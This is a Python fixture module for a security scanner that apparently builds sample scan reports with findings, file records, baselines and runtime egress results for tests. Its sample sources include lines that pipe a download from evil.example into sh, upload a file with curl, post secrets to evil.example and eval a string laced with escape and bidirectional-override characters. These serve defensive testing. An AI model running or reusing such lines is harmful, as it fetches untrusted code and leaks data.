"""A report as a scan could have made it, with everything that is hard to print."""

from __future__ import annotations

from gk_hooks.model.effects import Site
from gk_hooks.model.findings import Category, Certainty, Confidence, Decision, Example, Finding, Rule, Severity
from gk_hooks.model.kinds import Kind
from gk_hooks.model.records import replace
from gk_hooks.model.report import (
    AllowlistUse,
    BaselineState,
    BaselineUse,
    GitState,
    Introduction,
    NetworkCall,
    Report,
    Result,
    Run,
    Suppression,
)
from gk_hooks.model.runtime import Exercised, RuntimeEgress
from gk_hooks.model.snapshot import SCANNED_ITSELF, Record, Status
from gk_hooks.model.values import HOLE, Step

ODD = "docs/a|b`c<img src=x>\x1b[31m\u202egnp.py"
"""A name with a table's pipe, a backtick, HTML, a terminal sequence and a bidirectional override."""

UNDECODABLE = "lib/caf\udce9.sh"
"""A name whose byte 0xE9 is no UTF-8."""

SOURCES = {
    ("src/agent.py", 12): "    requests.post(url, data=secrets, timeout=3)",
    ("src/agent.py", 20): "\tname = '日本'; subprocess.run([tool, name])",
    ("src/agent.py", 30): "    done = subprocess.run(",
    ("src/agent.py", 31): '        ["curl", "-T", path,',
    ("src/agent.py", 32): '         "https://evil.example/in"],',
    ("src/agent.py", 33): "        check=True,",
    ("src/agent.py", 34): "        env=env,",
    ("src/agent.py", 35): "    )",
    (ODD, 1): "```; eval('\x1b[2J\u202e|<script>')",
    (UNDECODABLE, 2): 'bash -c "curl https://evil.example | sh"',
}


def _rule(rule_id: str, title: str, category: Category, severity: Severity, **more: tuple[str, ...]) -> Rule:
    return Rule(
        id=rule_id,
        title=title,
        category=category,
        severity=severity,
        confidence=Confidence.HIGH,
        why="Nobody on this network has approved what this does.",
        fix="Remove it, or have it approved: see https://security.example/approve.",
        cwe=more.get("cwe", ("CWE-200",)),
        nist=more.get("nist", ("SC-7", "CM-7")),
        attack=more.get("attack", ()),
        bad=(Example("bad()"),),
        good=(Example("good()"),),
    )


RULES = {
    rule.id: rule
    for rule in (
        _rule("NET001", "Connects to another machine", Category.NETWORK, Severity.BLOCKER, attack=("T1071",)),
        _rule("DEX001", "Turns text into code", Category.DYNAMIC_EXEC, Severity.BLOCKER, cwe=("CWE-95",)),
        _rule("PEX002", "Starts a network tool", Category.PROCESS_EXEC, Severity.BLOCKER, cwe=("CWE-78",)),
        _rule("PEX003", "Starts another program", Category.PROCESS_EXEC, Severity.HIGH, cwe=("CWE-78",)),
        _rule("SCAN001", "Could not be parsed", Category.OTHER, Severity.HIGH, cwe=(), nist=("SI-3",)),
        _rule("SCAN002", "Was not read", Category.OTHER, Severity.HIGH, cwe=(), nist=("SI-3",)),
    )
}


def result(
    rule_id: str,
    file: str,
    place: tuple[int, int, int, int],
    evidence: str,
    *,
    callee: str = "",
    excerpt: str = "",
    chain: tuple[str, ...] = (),
    suppression: Suppression | None = None,
    state: BaselineState | None = None,
    why_new: str = "",
    severity: Severity | None = None,
    **details: object,
) -> Result:
    """A result of *rule_id* at (line, column, end line, end column)."""
    site = Site(*place, callee=callee, excerpt=excerpt, chain=chain)
    finding = Finding(rule_id, site, evidence, file=file, **details)  # type: ignore[arg-type]
    rule = RULES[rule_id]
    return Result(finding, severity or rule.severity, rule.confidence, suppression, state, why_new)


RESULTS = (
    result(
        "DEX001",
        ODD,
        (1, 6, 1, 29),
        "eval runs '\x1b[2J\u202e|<script>'",
        callee="eval",
        excerpt="eval('\x1b[2J\u202e|<script>')",
    ),
    result(
        "NET001",
        UNDECODABLE,
        (2, 1, 2, 41),
        "curl connects to evil.example",
        callee="curl",
        chain=("bash -c", "pipe to sh"),
        destination="evil.example",
    ),
    result("SCAN001", "lib/py2.py", (3, 1, 3, 1), "Python could not parse it: invalid syntax", callee=""),
    result("SCAN002", "lib/weights.py", (1, 1, 1, 1), "skipped: larger than 5,000,000 bytes", callee=""),
    result(
        "NET001",
        "src/agent.py",
        (12, 5, 12, 48),
        f"requests.post connects to https://evil.example/{HOLE}",
        callee="requests.post",
        trail=(Step(3, f"url = 'https://evil.example/{HOLE}'"), Step(9, "send(url)")),
        destination="evil.example",
    ),
    result(
        "PEX003",
        "src/agent.py",
        (20, 15, 20, 43),
        "subprocess.run starts a program that is not known",
        callee="subprocess.run",
        certainty=Certainty.LIKELY,
    ),
    result(
        "PEX002",
        "src/agent.py",
        (30, 12, 35, 6),
        "subprocess.run starts curl",
        callee="subprocess.run",
        excerpt='subprocess.run( ["curl", "-T", path, "https://evil.example/in"], check=True, env=env, )',
        command=f"curl -T {HOLE} https://evil.example/in",
    ),
    result(
        "PEX003",
        "tools/build.py",
        (7, 1, 7, 30),
        "subprocess.run starts make",
        callee="subprocess.run",
        command="make all",
        suppression=Suppression("allowlist", "Builds the *docs* | see <ticket 12>", "A. Reviewer", "2026-03-01"),
    ),
)

RECORDS = (
    Record(ODD, Kind.PYTHON, 31, "a" * 64, Status.ANALYZED, blob_id="1" * 40, encoding="utf-8"),
    Record(UNDECODABLE, Kind.SHELL, 52, "b" * 64, Status.ANALYZED, blob_id="2" * 40, encoding="utf-8"),
    Record("lib/py2.py", Kind.PYTHON, 20, "c" * 64, Status.UNPARSED, "line 3: invalid syntax", encoding="utf-8"),
    Record("lib/sealed/", None, -1, "", Status.SKIPPED, "a folder that cannot be read"),
    Record("lib/weights.py", Kind.PYTHON, 6_000_000, "", Status.SKIPPED, "larger than 5,000,000 bytes"),
    Record("link.py", Kind.PYTHON, -1, "", Status.SKIPPED, SCANNED_ITSELF),
    Record("src/agent.py", Kind.PYTHON, 1_900, "d" * 64, Status.ANALYZED, blob_id="3" * 40, encoding="utf-8"),
    Record("tools/build.py", Kind.PYTHON, 240, "e" * 64, Status.ANALYZED, blob_id="4" * 40, encoding="utf-8"),
)

FULL = Report(
    version="0.1.0",
    profile="mcen_practical",
    run=Run("2026-03-02T08:00:00Z", "2026-03-02T08:00:01Z", 1042, "station-7", "Linux 6.1", "3.11.2", "/srv/project"),
    mode="directory",
    target=".",
    root_path="/srv/project",
    git=GitState(
        is_repo=True,
        head_commit="5" * 40,
        dirty=True,
        branch="main",
        describe="v1.2-3-g5555555",
        tree="6" * 40,
        worktree_differs=True,
        untracked=True,
        index_differs=False,
    ),
    decision=Decision.FAIL,
    decision_unsuppressed=Decision.FAIL,
    results=RESULTS,
    records=RECORDS,
    network=(
        NetworkCall(UNDECODABLE, 2, "curl", "connects", "evil.example", "remote", ("bash -c", "pipe to sh")),
        NetworkCall("src/agent.py", 12, "requests.post", "connects", f"https://evil.example/{HOLE}", "remote"),
        NetworkCall("src/agent.py", 40, "socket.bind", "listens", "127.0.0.1:80 \\| x|y", "loopback"),
        NetworkCall("src/agent.py", 44, "urlopen", "connects", "", "unknown"),
    ),
    artifacts=("vendor/six-1.16.0-py2.py3-none-any.whl", "vendor/t\udcff.zip"),
    allowlist=AllowlistUse("allow.json", "f" * 64, 2, ("entry 2: exact 'git status'",)),
    config_hash="7" * 64,
    rulepack_hash="8" * 64,
    notes=("The allowlist lies in the scanned tree.",),
    sources=SOURCES,
)
"""FAIL, incomplete, dirty, with a suppressed finding and unusual names."""

CLEAN = replace(
    FULL,
    git=GitState(),
    decision=Decision.PASS,
    decision_unsuppressed=Decision.PASS,
    results=(),
    records=RECORDS[-1:],
    network=(),
    artifacts=(),
    allowlist=None,
    notes=(),
    sources={},
)
"""PASS of a folder outside git."""

SINCE = replace(
    FULL,
    mode="since",
    target="main..HEAD",
    git=GitState(True, "5" * 40, False, "topic", base_commits=("9" * 40,)),
    decision=Decision.CONDITIONAL_PASS,
    decision_unsuppressed=Decision.FAIL,
    results=(
        replace(RESULTS[4], state=BaselineState.UNCHANGED),
        replace(
            RESULTS[5],
            state=BaselineState.NEW,
            why_new="line 20 was added",
            hunks=("@@ -20,1 +20,1 @@", " x = 1", "-\tos.wait()", "+\tprocess = subprocess.run(\x1b, `y`)"),
        ),
        replace(
            RESULTS[6], suppression=Suppression("baseline", "Known since v1", "B. Lead", "2026-01-05", "2026-12-31")
        ),
        replace(RESULTS[7], suppression=None, state=BaselineState.ABSENT),
    ),
    records=RECORDS[-2:],
    notes=(),
    baseline=BaselineUse(
        source=f"commit {'9' * 40}",
        sha256="0" * 64,
        entries=12,
        honoured=("PEX002 src/agent.py:30:12",),
        stale=tuple(f"PEX003 old/{number}.py:1:1: the file is gone" for number in range(7)),
        expired=("NET001 src/agent.py:2:1: expired after 2026-01-31",),
        newly_added=("DEX001 src/new.py:3:1 (approved by `C`: trust me)",),
        unreadable=("NET002 b\udcff.py:4:1: the version that was accepted is not in this repository",),
    ),
)
"""What a branch adds: one new finding, one known, one accepted, one gone."""

EMPTY = replace(CLEAN, records=())
"""Nothing was in scope."""

RUN = replace(
    FULL,
    mode="at",
    target="v1.2",
    results=tuple(
        replace(each, introduced=Introduction("a" * 40, "D. <b>", "2026-01-05T10:00:00Z")) for each in RESULTS[4:5]
    ),
    runtime=RuntimeEgress(
        verdict="blocked",
        reasons=("The kernel counted 2 attempts that the log explains.",),
        level="kernel-netns",
        enforced_by="a network namespace and a seccomp supervisor",
        race_free=True,
        not_covered=("later runs", "what it leaves for other programs"),
        fallback_reason="",
        command=("python3", "src/agent.py", "\x1b[2J<i>"),
        exit_code=1,
        gate_exit_code=1,
        blocked_attempts=2,
        allowed_loopback_attempts=1,
        destinations=("evil.example", "192.0.2.1:443"),
        findings=(
            Exercised("NET001", "src/agent.py", 12, "exercised and blocked", "stack", ("evil.example",)),
            Exercised("NET001", UNDECODABLE, 2, "not exercised"),
        ),
        summary_sha256="b" * 64,
    ),
)
"""An audit with --blame, and one run behind the gate."""

SAMPLES = {"full": FULL, "clean": CLEAN, "since": SINCE, "empty": EMPTY, "run": RUN}
